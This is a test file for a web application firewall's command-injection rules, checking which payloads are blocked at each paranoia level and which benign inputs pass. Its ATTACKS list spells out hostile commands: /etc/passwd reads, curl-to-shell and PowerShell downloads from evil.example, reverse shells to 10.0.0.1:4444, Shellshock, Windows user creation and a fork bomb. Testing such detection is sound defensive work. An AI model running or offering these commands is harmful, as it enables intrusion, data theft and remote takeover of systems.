import test from "ava";
import { join } from "node:path";
import { DEFAULT_SETTINGS, WafEngine, type WafVerdict } from "../../../../proxy/waf/engine.js";
import { loadRules } from "../../../../proxy/waf/rule-file.js";
import { bundledRulesDir } from "../../../../proxy/waf/settings.js";
import type { WafInput } from "../../../../proxy/waf/types.js";

const rules = loadRules(join(bundledRulesDir(), "132-rce.yaml"));
const engines = new Map<number, WafEngine>();

function engineAt(paranoia: number): WafEngine {
  let e = engines.get(paranoia);
  if (e === undefined) {
    e = new WafEngine(rules, { ...DEFAULT_SETTINGS, paranoia, detectionParanoia: paranoia });
    engines.set(paranoia, e);
  }
  return e;
}

type Place = "query" | "form" | "json" | "cookie" | "ua" | "referer" | "xml" | "upload" | "x-filename";

function request(place: Place, value: string): WafInput {
  const base = { method: "GET", uri: "/app", protocol: "HTTP/1.1" };
  const host: [string, string] = ["host", "x"];
  const post = (type: string, body: string): WafInput => ({
    ...base,
    method: "POST",
    headers: [host, ["content-type", type]],
    body: Buffer.from(body),
  });
  switch (place) {
    case "query":
      return { ...base, uri: `/app?v=${encodeURIComponent(value)}`, headers: [host] };
    case "form":
      return post("application/x-www-form-urlencoded", `v=${encodeURIComponent(value)}`);
    case "json":
      return post("application/json", JSON.stringify({ data: { v: value } }));
    case "xml":
      return post("application/xml", `<?xml version="1.0"?><r><v>${value.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</v></r>`);
    case "cookie":
      return { ...base, headers: [host, ["cookie", `a=1; v=${value}`]] };
    case "ua":
      return { ...base, headers: [host, ["user-agent", value]] };
    case "referer":
      return { ...base, headers: [host, ["referer", value]] };
    case "x-filename":
      return { ...base, headers: [host, ["x-filename", value]] };
    case "upload": {
      const b = "----b0undary";
      const body = `--${b}\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--${b}--\r\n`;
      return post(`multipart/form-data; boundary=${b}`, body);
    }
  }
}

function verdict(paranoia: number, place: Place, value: string): WafVerdict {
  return engineAt(paranoia).evaluate(request(place, value), { route: "", path: "/app" });
}

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  ["query", "127.0.0.1;cat /etc/passwd", 1],
  ["form", "8.8.8.8|whoami", 1],
  ["json", "example.com && curl -s http://evil.example/x.sh | sh", 1],
  ["cookie", "en$(id)", 1],
  ["query", "x%0Auname -a", 1],
  ["query", "%3Bwhoami", 1],
  ["xml", "a; uname -a", 1],
  ["form", "|| sleep 5", 1],
  ["form", "w'h'o'a'm'i", 1],
  ["query", "a;c\\at /etc/hosts", 1],
  ["form", "time nohup ifconfig", 1],
  ["query", "/???/c?t /???/p??s??", 1],
  ["query", "{cat,/etc/passwd}", 1],
  ["form", "cat${IFS}/etc/passwd", 1],
  ["query", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1],
  ["form", "x; nc -e /bin/sh 10.0.0.1 4444", 1],
  ["ua", "() { :;}; /bin/bash -c 'id'", 1],
  ["form", "x & c^md /c dir", 1],
  ["query", "1 | net user hacker P@ss1 /add", 1],
  ["form", "; certutil -urlcache -f http://evil.example/a.exe a.exe", 1],
  ["json", "for /f %i in ('whoami') do echo %i", 1],
  ["form", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')", 1],
  ["query", "x|powershell -enc SQBFAFgA", 1],
  ["upload", ".htaccess", 1],
  ["x-filename", "wp-config.php", 1],
  ["ua", "curl -s http://evil.example/x | bash", 2],
  ["query", "c$@at /etc/passwd", 2],
  ["form", "\r\nRCPT TO:<victim@example.com>", 2],
  ["form", ":(){ :|:& };:", 2],
  ["query", "'i'fconfig", 1],
  ["query", "x|vi -c ':!id' /tmp/a", 3],
];

for (const [place, payload, pl] of ATTACKS) {
  test(`blocks at PL${pl} (${place}): ${JSON.stringify(payload)}`, (t) => {
    const v = verdict(pl, place, payload);
    t.is(v.action, "block", JSON.stringify(v.matches.map((m) => m.id)));
    t.true(v.matches.every((m) => m.id >= 132000 && m.id <= 132999));
    if (pl > 1) t.is(verdict(pl - 1, place, payload).action, "pass", "belongs to the stricter level only");
  });
}

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["form", "Tom & Jerry", true],
  ["form", "O'Brien & Sons; est. 1999", true],
  ["query", "best running shoes for women", true],
  ["form", "Skills: Java; Python; SQL", false],
  ["form", "How do I use curl to download a file?", true],
  ["form", "It costs $5 (approx)", true],
  ["form", "See [the docs](https://example.com/docs?a=1&b=2)", true],
  ["form", "The meeting ends at 10pm; time to go", true],
  ["form", "R&D department; find out more", false],
  ["json", "john.doe@example.com", true],
  ["form", "C:\\Program Files\\App\\app.exe", true],
  ["form", "for (int i = 0; i < n; i++) { sum += i; }", true],
  ["form", "Date / Time", true],
  ["query", "~/documents/report.pdf", true],
  ["form", "color: red !important;", true],
  ["form", "Tax (VAT) (incl.)", true],
  ["form", "a[b] = c[d]", true],
  ["form", "if you want more, call us", true],
  ["form", "Go to store.\nAt the store, shop.", true],
  ["ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", true],
  ["ua", "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2", true],
  ["referer", "https://www.google.com/search?q=waf+rules&sa=U&ved=2ahUKE&usg=AO", true],
  ["cookie", "GA1.2.3456.7890", true],
  ["upload", "holiday-photo.jpg", true],
  ["x-filename", "abc.botox.jpg", true],
  ["form", "The zip on my coat is stuck", true],
];

for (const [place, value, alsoPl2] of BENIGN) {
  test(`passes at PL1${alsoPl2 ? " and PL2" : ""} (${place}): ${JSON.stringify(value)}`, (t) => {
    const v1 = verdict(1, place, value);
    t.is(v1.action, "pass", JSON.stringify(v1.matches.map((m) => `${m.id}:${m.match}`)));
    if (alsoPl2) {
      const v2 = verdict(2, place, value);
      t.is(v2.action, "pass", JSON.stringify(v2.matches.map((m) => `${m.id}:${m.match}`)));
    }
  });
}

test("every rule is in the file's id range and carries the attack-rce and owasp-a03 tags", (t) => {
  t.true(rules.length > 10);
  for (const r of rules) {
    t.true(r.id >= 132000 && r.id <= 132999, String(r.id));
    t.true(r.tags.includes("attack-rce") && r.tags.includes("owasp-a03"), String(r.id));
  }
});
